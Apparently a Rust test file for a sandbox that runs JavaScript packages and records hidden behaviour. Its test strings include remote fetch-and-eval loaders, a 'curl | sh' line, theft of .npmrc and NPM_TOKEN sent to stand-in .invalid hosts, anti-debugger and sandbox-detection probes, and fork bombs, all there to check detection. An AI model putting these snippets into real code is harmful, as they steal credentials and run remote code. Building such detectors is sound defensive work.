//! What is seen of code that hides what it does.

mod driven;
mod page;

use stockade_model::{TreeFile, Trigger};

use crate::plan::{Entry, Plan, Start};
use crate::testing::{Scene, token};
use crate::{RunLimits, WorldSpec};
use stockade_model::{Encoding, Observation, Operation};

fn layers(text: &str) -> Vec<(String, String)> {
    let seen = Scene::new().text(text);
    assert_eq!(seen.end.ends.first().and_then(|end| end.failure.clone()), None, "{text}");
    seen.end.layers.into_iter().map(|layer| (layer.via, layer.text)).collect()
}

#[test]
fn every_way_from_text_to_code_is_a_layer() {
    for (via, text) in [
        ("eval", "(function (q) { if (eval('1 + q') !== 3) throw 1 })(2)"),
        ("eval", "(0, eval)('1 + 1')"),
        ("eval", "const e = globalThis['ev' + 'al']; e('1 + 1')"),
        ("Function", "new Function('a', 'return a')(1)"),
        ("Function", "[].constructor.constructor('return 1')()"),
        ("Function", "(async () => {}).constructor('return 1')()"),
        ("Function", "Object.getPrototypeOf(function* () {}).constructor('yield 1')()"),
        ("Function", "Reflect.construct(Function, ['return 1'])()"),
        ("vm", "require('vm').runInNewContext('1')"),
        ("vm", "new (require('node:vm').Script)('1').runInThisContext()"),
        ("compile", "new (require('module'))('x')._compile('1', '/x.js')"),
        ("timer", "setTimeout('1 + 1', 5)"),
        ("import", "import('data:text/javascript,1')"),
        ("node -e", "require('child_process').execSync('node -e \"1+1\"')"),
    ] {
        assert!(layers(text).iter().any(|(found, _)| found == via), "{via}: {text}");
    }
}

#[test]
fn direct_eval_keeps_its_scope_and_strictness() {
    let seen = Scene::new().text("let v = 1; { let v = 2; console.log(eval('v'), eval('eval(\"v\") + 1')) }");
    assert_eq!(seen.output(), "2 3\n");
}

#[test]
fn what_the_network_sends_and_the_code_runs_is_proven() {
    for text in [
        "require('https').get('https://h.invalid', (r) => { let d = ''; r.on('data', (c) => d += c).on('end', () => eval(d)) })",
        "fetch('https://h.invalid').then((r) => r.json()).then((j) => new Function(j.data.code)())",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => eval(JSON.parse(t).cookie))",
        "require('axios').get('https://h.invalid').then(({ data }) => eval(data.x))",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => { require('fs').writeFileSync('/tmp/a.js', t); require('/tmp/a.js') })",
        "require('net').connect(443, 'h.invalid').on('data', (d) => eval(String(d)))",
        "new WebSocket('wss://h.invalid').onmessage = (m) => eval(m.data)",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => require('child_process').execSync(t))",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => require('child_process').spawn('node', ['-e', t]))",
        "require('dns').resolveTxt('h.invalid', (e, r) => eval(r[0][0]))",
        "require('child_process').exec('curl -s https://h.invalid | sh')",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => require('vm').runInNewContext(t, {}))",
    ] {
        let mut scene = Scene::new();
        if text.contains("WebSocket") {
            // Node 20 has none; the developer on macOS has a newer Node.
            scene.world = WorldSpec::mac_developer();
        }
        let seen = scene.text(text);
        assert!(!seen.of(Operation::MarkerRan).is_empty(), "{text}\n{:#?}", seen.end);
    }
}

#[test]
fn a_token_is_seen_in_what_is_sent() {
    let seen = Scene::new().text(
        "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc'); \
         require('https').request({host: 'h.invalid', method: 'POST'}).end(t.toString('base64'))",
    );
    let read = seen.of(Operation::FsRead);
    assert_eq!((read[0].labels[0].name.as_str(), read[0].labels[0].encoding), (".npmrc", Encoding::Read));
    let sent = seen.of(Operation::NetSend);
    assert_eq!((sent[0].labels[0].name.as_str(), sent[0].labels[0].encoding), (".npmrc", Encoding::Base64));
}

#[test]
fn a_place_is_the_line_in_the_file() {
    let seen = Scene::new()
        .file("package.json", "{\"name\": \"specimen\", \"main\": \"lib/a.js\"}")
        .file("lib/a.js", "// one\nfunction steal() {\n  return process.env.NPM_TOKEN;\n}\nsteal();\n")
        .run(Start::Package);
    let place = seen.of(Operation::EnvRead)[0].place.clone().unwrap();
    assert_eq!((place.file.as_str(), place.line), ("lib/a.js", 3));
    assert_eq!(seen.of(Operation::EnvRead)[0].labels[0].name, ".npmrc");
    assert!(!token(".npmrc").is_empty());
}

#[test]
fn hostile_loops_and_hoards_end_as_gaps() {
    for text in [
        "for (;;) {}",
        "const a = []; for (;;) a.push(new Uint8Array(1e6))",
        "(function f() { f() })()",
        "/(a+)+$/.test('a'.repeat(40) + 'b')",
        "[3, 1, 2].sort(() => { for (;;) {} })",
        "setInterval(() => setImmediate(() => {}), 1)",
        "(function f() { setImmediate(f) })()",
        "(function f() { Promise.resolve().then(f) })()",
        "for (let i = 0; i < 1000; i++) require('child_process').fork(__filename)",
        "require('child_process').execSync('node -e \"require(`child_process`).execSync(process.execPath + ` -e 1`)\"')",
        "const s = Date.now(); while (Date.now() - s < 86400000) {}",
        "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1e9)",
    ] {
        let mut scene = Scene::new();
        scene.limits = RunLimits { ticks: 400, heap_bytes: 48 << 20, ..RunLimits::default() };
        let seen = scene.text(text);
        assert_eq!(seen.end.ends.len(), 1, "{text}");
    }
}

#[test]
fn a_guard_against_debuggers_leaves_room_for_what_it_guards() {
    let mut scene = Scene::new();
    scene.limits.ticks = 20_000;
    let seen = scene.text(
        "function guard(depth) { Function('debugger')(); guard(depth + 1) } \
         const again = () => { try { guard(0) } catch {} }; again(); setInterval(again, 4000); \
         require('https').get('https://drop.invalid/?' + process.env.NPM_TOKEN)",
    );
    assert_eq!(seen.end.gaps, []);
    assert!(seen.of(Operation::NetSend).iter().any(|sent| sent.labels.iter().any(|label| label.is_sent())));
    assert!(seen.of(Operation::CodeEval).len() <= 2 * Observation::KEPT_REPEATS as usize);
}

#[test]
fn an_interval_that_brings_news_goes_on() {
    let seen = Scene::new().text(
        "let turn = 0; const busy = setInterval(() => { for (let i = 0; i < 1e6; i++); turn += 1; \
         if (turn === 9) { clearInterval(busy); require('https').get('https://drop.invalid/9') } \
         else require('fs').writeFileSync('/tmp/' + turn, 'x') }, 1000)",
    );
    assert_eq!(seen.of(Operation::NetSend).len(), 1);
}

#[test]
fn pollution_neither_blinds_nor_breaks_the_world() {
    let seen = Scene::new().text(
        "Array.prototype.push = () => 0; Array.prototype.map = () => []; String.prototype.slice = () => ''; \
         JSON.stringify = () => '{}'; Object.keys = () => []; Reflect.apply = () => 0; Function.prototype.call = null; \
         Promise.prototype.then = null; RegExp.prototype.exec = () => null; Error.prepareStackTrace = () => 'x'; \
         process.env.NPM_TOKEN; eval('1')",
    );
    assert_eq!(seen.of(Operation::EnvRead).len(), 1);
    assert_eq!(seen.end.layers.len(), 1);
}

#[test]
fn the_world_does_not_betray_itself() {
    let seen = Scene::new().text(
        "const odd = Object.getOwnPropertyNames(globalThis).filter((n) => /stockade|emulat|host|marker|quick/i.test(n)); \
         const isNative = (f) => /\\[native code\\]/.test(Function.prototype.toString.call(f)); \
         console.log(odd.length, [eval, Math.random, Date, Function, JSON.parse, Function.prototype.toString].every(isNative), \
         [setTimeout, require('fs').readFileSync, fetch, process.exit].some(isNative), typeof Function.prototype.fileName, \
         /internal.(code|boot|module|stack|event_loop)\\b/.test(new Error('x').stack), process.version, module.paths.length > 2)",
    );
    assert_eq!(seen.output(), "0 true false undefined false v20.20.2 true\n");
}

#[test]
fn two_runs_are_the_same() {
    let run = || {
        let seen = Scene::new().text(
            "console.log(Math.random(), Date.now(), require('crypto').randomBytes(8).toString('hex')); fetch('https://h.invalid/' + Math.random())",
        );
        serde_json::to_string(&seen.all).unwrap()
    };
    assert_eq!(run(), run());
}

#[test]
fn files_written_by_one_entry_are_there_for_the_next() {
    let file = |path: &str, text: &str| TreeFile {
        path: path.to_owned(),
        bytes: text.as_bytes().into(),
        is_executable: false,
        reading: 0,
    };
    let tree = stockade_model::Tree::new(vec![
        file("setup.js", "require('fs').writeFileSync(__dirname + '/b.js', 'console.log(`second`)')"),
        file("index.js", "require('./b')"),
        file("package.json", r#"{"name": "p", "scripts": {"postinstall": "node setup.js"}}"#),
    ]);
    let plan = Plan::of_package(&tree);
    assert_eq!(plan.entries.first().map(|entry: &Entry| entry.trigger), Some(Trigger::Install));
    let end = crate::detonate(&tree, &plan, &WorldSpec::mac_developer(), &RunLimits::default(), |_| {});
    assert_eq!(end.ends.last().map(|end| end.output.as_str()), Some("second\n"));
    assert_eq!(end.changed_files, ["/Users/dana/projects/shop/node_modules/p/b.js"]);
}
